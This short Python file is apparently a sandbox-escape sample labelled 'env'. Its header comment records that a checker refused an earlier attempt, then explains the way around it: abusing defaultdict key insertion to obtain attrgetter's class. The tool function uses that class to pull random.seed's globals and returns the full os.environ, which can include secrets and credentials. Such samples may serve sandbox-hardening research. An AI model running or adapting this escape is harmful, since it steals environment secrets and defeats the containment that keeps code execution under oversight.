# family: env
# Escape: `tally[x.__class__] += 0` was refused once keys were stored, but a defaultdict stores a key on a
# plain read: `tally[x.__class__]` (an allowed lookup operand) inserts the attrgetter class, and list(tally)
# returns it. It reads random.seed.__globals__ (run-time name), where _os.environ is the environment.
import collections
import operator
import random


def tool() -> dict:
    tally = collections.defaultdict(list)
    tally[operator.attrgetter("real").__class__]
    Getter = list(tally)[0]
    edge = "_" * 2
    return dict(Getter(edge + "globals" + edge)(random.seed)["_os"].environ)
